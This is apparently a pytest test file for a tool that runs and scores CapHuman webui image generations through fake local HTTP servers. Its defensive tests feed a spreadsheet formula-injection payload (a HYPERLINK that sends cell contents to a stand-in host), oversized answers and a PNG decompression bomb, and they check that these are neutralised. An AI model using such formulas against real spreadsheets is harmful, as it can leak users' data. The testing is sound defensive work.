"""The protocol runner against a real HTTP server in a thread that answers like the webui: txt2img returns the
unit's reference photo (so the scores are known), /caphuman/v1/score runs the real `score_request`."""

from __future__ import annotations

import base64
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from caphuman_ext.quality.api import score_request
from caphuman_ext.unit.params import UnitValidationError
from caphuman_tools.quality import protocol, summary, table
from caphuman_tools.quality.__main__ import main
from caphuman_tools.quality.runner import RunConfig, run


class FakeWebui(ThreadingHTTPServer):
    def __init__(self, scorer) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.scorer = scorer
        self.txt2img: list[dict] = []
        self.failing = False  # answer 500 to prompts containing "FAIL"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Handler(BaseHTTPRequestHandler):
    server: FakeWebui

    def log_message(self, *args) -> None:
        pass

    def _answer(self, status: int, body: dict) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self) -> None:  # noqa: N802 - http.server's name
        payload = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.path == "/sdapi/v1/txt2img":
            self.server.txt2img.append(payload)
            if self.server.failing and "FAIL" in payload["prompt"]:
                return self._answer(500, {"error": "RuntimeError", "detail": "out of memory"})
            unit = payload["alwayson_scripts"]["CapHuman"]["args"][0]
            return self._answer(200, {"images": [unit["reference_images"][0]], "parameters": {}, "info": "{}"})
        if self.path == "/caphuman/v1/score" and self.server.scorer is not None:
            try:
                return self._answer(200, score_request(payload, self.server.scorer))
            except UnitValidationError as error:
                return self._answer(422, {"detail": [{"loc": [error.field], "msg": error.reason}]})
        self._answer(404, {"detail": "Not Found"})


@pytest.fixture
def webui(scorer):
    server = FakeWebui(scorer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def inputs(tmp_path, astronaut):
    identities, poses = tmp_path / "identities", tmp_path / "poses"
    identities.mkdir()
    poses.mkdir()
    astronaut.save(identities / "eileen.png")
    astronaut.save(poses / "self.png")  # target = the identity's own head
    (poses / "rolled.json").write_text(json.dumps({"roll": 30}))
    prompts = tmp_path / "prompts.txt"
    prompts.write_text("# HumanIPHC-style prompts\na photo of a person\n\na person in the snow, FAIL\n")
    return identities, poses, prompts


def test_runner_generates_scores_resumes_and_retries(webui, inputs, tmp_path):
    identities, poses, prompts = inputs
    out = tmp_path / "out"
    webui.failing = True
    first = run(RunConfig(api=webui.url, identities=identities, poses=poses, prompts=prompts, out=out, seeds=[7],
                          steps=[4], progress=False))
    assert (first.generated, first.failed, first.skipped) == (2, 2, 0)
    assert len(webui.txt2img) == 4
    sent = webui.txt2img[0]
    unit = sent["alwayson_scripts"]["CapHuman"]["args"][0]
    assert sent["seed"] == 7 and sent["steps"] == 4 and unit["enabled"] and unit["strength"] == 1.0
    assert unit["modes"] == ["position", "pose", "expression", "lighting"] and "pose_image" in unit
    assert {tuple(sorted(p["alwayson_scripts"]["CapHuman"]["args"][0])) for p in webui.txt2img} >= {
        tuple(sorted({"enabled", "model", "reference_images", "strength", "pose_only", "roll"}))}
    rows = table.read_rows(out / "scores.csv")
    assert len(rows) == 4 and sum(bool(r["error"]) for r in rows) == 2
    assert all("HTTP 500" in r["error"] for r in rows if r["error"])

    webui.failing = False
    code = main(["--api", webui.url, "--identities", str(identities), "--poses", str(poses), "--prompts",
                 str(prompts), "--out", str(out), "--seeds", "7", "--steps", "4", "--no-progress"])
    assert code == 0
    assert len(webui.txt2img) == 6  # only the two failed rows were generated again
    rows = {(r["condition"], r["prompt_index"]): r for r in table.read_rows(out / "scores.csv")}
    assert len(rows) == 4 and not any(r["error"] for r in rows.values())
    for prompt_index in ("0", "1"):
        own, rolled = rows[("self", prompt_index)], rows[("rolled", prompt_index)]
        assert float(own["identity_similarity"]) == pytest.approx(1.0, abs=1e-5)
        assert float(own["shape"]) == 0.0 and float(own["pose"]) == 0.0 and own["face_found"] == "True"
        assert 20 < float(rolled["roll_deg"]) < 40 and float(rolled["shape"]) == 0.0
        assert (out / own["image"]).is_file()

    again = run(RunConfig(api=webui.url, identities=identities, poses=poses, prompts=prompts, out=out,
                          seeds=[7, 8], steps=[4], limit=1, progress=False))
    assert (again.generated, again.skipped) == (1, 4) and len(webui.txt2img) == 7
    assert webui.txt2img[-1]["seed"] == 8

    text = (out / "summary.md").read_text()
    assert "CapHuman paper (Table 1) | 0.8429 | 0.1132 | 0.0564 | 0.1349 | 0.1047" in text
    assert "## Per head condition" in text and "| rolled |" in text and "| self |" in text
    assert "5 images scored, a face found in 5" in text
    try:
        import matplotlib  # noqa: F401
    except ImportError:
        assert "no plot" in text
    else:
        assert (out / "summary.png").stat().st_size > 1000 and "![" in text


def test_summary_without_matplotlib_says_so(monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "matplotlib", None)  # as if it were not installed
    rows = [{"identity": "a", "condition": "c", "strength": "1", "pose_only": "0", "face_found": "True",
             "identity_similarity": "0.8", "shape": "0.1", "pose": "0.05", "expression": "0.1", "lighting": "0.1",
             "yaw_deg": "2", "pitch_deg": "1", "roll_deg": "1", "error": ""}]
    note = summary.plot(rows, tmp_path / "summary.png")
    assert "matplotlib is not installed" in note and not (tmp_path / "summary.png").exists()
    assert "| this run | 0.8000 ± 0.0000 | 0.1000 ± 0.0000" in summary.markdown(rows, plot_note=note)


def test_unreachable_webui_is_one_clear_error(inputs, tmp_path, capsys):
    identities, poses, prompts = inputs
    code = main(["--api", "http://127.0.0.1:9", "--identities", str(identities), "--poses", str(poses),
                 "--prompts", str(prompts), "--out", str(tmp_path / "out"), "--no-progress"])
    assert code == 1 and "did not answer" in capsys.readouterr().err


def test_a_missing_score_route_stops_the_run_with_advice(webui, inputs, tmp_path, capsys):
    identities, poses, prompts = inputs
    webui.scorer = None  # an extension without the score route: txt2img works, /caphuman/v1/score is 404
    code = main(["--api", webui.url, "--identities", str(identities), "--poses", str(poses),
                 "--prompts", str(prompts), "--out", str(tmp_path / "out"), "--no-progress"])
    assert code == 1 and "--score local" in capsys.readouterr().err and len(webui.txt2img) == 1


def test_grid_crosses_every_compared_setting():
    identities = [protocol.Identity("a", []), protocol.Identity("b", [])]
    conditions = [protocol.Condition("c1"), protocol.Condition("c2")]
    grid = list(protocol.jobs(identities, ["p1", "p2", "p3"], conditions, [0, 1], [0.8, 1.0], [0.0],
                              ["Euler a", "DPM++ 2M"], [20]))
    assert len(grid) == 2 * 3 * 2 * 2 * 2 * 2 and len({job.key for job in grid}) == len(grid)
    assert len({job.image_name() for job in grid}) == len(grid)


def test_protocol_inputs_are_checked_by_name(tmp_path, inputs):
    identities, poses, prompts = inputs
    (poses / "bad.json").write_text(json.dumps({"yaw": 30, "strength": 2}))
    with pytest.raises(protocol.ProtocolError, match="bad.json.*'strength'"):
        protocol.load_conditions(poses, ["pose"])
    (poses / "bad.json").write_text(json.dumps({"yaw": 300}))
    with pytest.raises(protocol.ProtocolError, match="bad.json: yaw"):
        protocol.load_conditions(poses, ["pose"])
    empty = tmp_path / "empty.txt"
    empty.write_text("# nothing\n\n")
    with pytest.raises(protocol.ProtocolError, match="no prompts"):
        protocol.load_prompts(empty)
    with pytest.raises(protocol.ProtocolError, match="not a folder"):
        protocol.load_identities(tmp_path / "missing")
    (identities / "broken.png").write_bytes(b"not a png")
    with pytest.raises(protocol.ProtocolError, match="broken.png"):
        protocol.b64_image(identities / "broken.png")
    assert base64.b64decode(protocol.b64_image(identities / "eileen.png"))[:4] == b"\x89PNG"


# hostile or odd answers: bounded reads, one case's error, no formulas in the CSV ---------------------------------
class OddWebui(ThreadingHTTPServer):
    """Answers txt2img with `image` (base64) and the score route with `score` (raw bytes), whatever they hold."""

    def __init__(self, image: str, score: bytes) -> None:
        super().__init__(("127.0.0.1", 0), OddHandler)
        self.image, self.score, self.scored = image, score, 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class OddHandler(BaseHTTPRequestHandler):
    server: OddWebui

    def log_message(self, *args) -> None:
        pass

    def do_POST(self) -> None:  # noqa: N802 - http.server's name
        self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/sdapi/v1/txt2img":
            data = json.dumps({"images": [self.server.image]}).encode()
        else:
            self.server.scored += 1
            data = self.server.score
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def odd_webui(astronaut):  # noqa: F811
    servers = []

    def start(score: bytes, image: str | None = None) -> OddWebui:
        server = OddWebui(image or _b64(astronaut), score)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def _b64(image) -> str:
    import io

    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def _run(server: OddWebui, inputs, out) -> object:
    identities, poses, prompts = inputs
    return run(RunConfig(api=server.url, identities=identities, poses=poses, prompts=prompts, out=out, seeds=[7],
                         steps=[4], progress=False))


@pytest.mark.parametrize("score", [b'{"units": [5]}', b'{"units": "x"}', b"[1, 2]", b"not json", b'{"units": []}'])
def test_an_odd_score_answer_is_that_case_s_error_and_the_run_goes_on(odd_webui, inputs, tmp_path, score):
    server = odd_webui(score)
    result = _run(server, inputs, tmp_path / "out")
    assert (result.generated, result.failed) == (0, 4) and server.scored == 4  # every case tried
    rows = table.read_rows(tmp_path / "out" / "scores.csv")
    assert len(rows) == 4 and all(row["error"] for row in rows)


def test_server_strings_never_reach_the_csv_as_formulas(odd_webui, inputs, tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
    answer = {"units": [{"unit": 0, "face_found": formula, "identity_similarity": "-1+2", "head_fitted": "@SUM(1)",
                         "errors": {"shape": "\tx"}, "rotation": {"yaw_deg": "\r=1"}}]}
    server = odd_webui(json.dumps(answer).encode())
    _run(server, inputs, tmp_path / "out")
    import csv

    with open(tmp_path / "out" / "scores.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = table.read_rows(tmp_path / "out" / "scores.csv")  # read back as the server sent them
    assert {row["face_found"] for row in rows} == {formula} and {row["yaw_deg"] for row in rows} == {"\r=1"}
    assert table.done_keys(rows) == {table.row_key(row) for row in rows}  # resumable: keys survive the round trip


def test_numbers_stay_numbers_in_the_csv(tmp_path):
    path = tmp_path / "scores.csv"
    table.append_row(path, {"identity": "-x", "prompt_index": 0, "condition": "c", "seed": -1, "strength": -0.5,
                            "pose_only": 0.0, "sampler": "", "steps": 4, "yaw_deg": -3.25})
    text = path.read_text(encoding="utf-8").splitlines()[1]
    assert text.startswith("'-x,0,c,-1,-0.5,0,") and ",-3.25," in text
    row = table.read_rows(path)[0]
    assert row["identity"] == "-x" and table.number(row, "yaw_deg") == -3.25


def test_an_answer_over_the_bound_is_not_read_whole(odd_webui, monkeypatch):
    from caphuman_tools.quality import webui_client

    server = odd_webui(json.dumps({"units": [], "padding": "x" * 2_000_000}).encode())
    reads = []
    real = webui_client.urllib.request.urlopen

    def counting(*args, **kwargs):
        response = real(*args, **kwargs)
        original = response.read
        response.read = lambda amount=None: reads.append(amount) or original(amount)
        return response

    monkeypatch.setattr(webui_client.urllib.request, "urlopen", counting)
    client = webui_client.Webui(server.url, max_answer_bytes=100_000)
    with pytest.raises(webui_client.WebuiError, match="over 100,000 bytes") as error:
        client.score({})
    assert not error.value.fatal and reads == [100_001]


def test_a_huge_image_is_refused_from_its_header(odd_webui, inputs, tmp_path, monkeypatch):
    from caphuman_tools.quality import webui_client
    from tests.inputs import png_bomb

    bomb = base64.b64encode(png_bomb(13_300)).decode()  # 176.9 MP: under Pillow's own 2 × 89 MP refusal
    with pytest.raises(webui_client.WebuiError, match="13300×13300"):
        webui_client.decode_answer_image(bomb, "/sdapi/v1/txt2img")
    monkeypatch.setattr(webui_client, "MAX_IMAGE_PIXELS", 1_000_000, raising=False)
    monkeypatch.setattr(webui_client.decode_answer_image, "__defaults__", (1_000_000,), raising=False)
    server = odd_webui(b'{"units": []}', image=base64.b64encode(png_bomb(3000)).decode())
    result = _run(server, inputs, tmp_path / "out")
    rows = table.read_rows(tmp_path / "out" / "scores.csv")
    assert result.failed == 4 and server.scored == 0
    assert all("3000×3000" in row["error"] for row in rows)
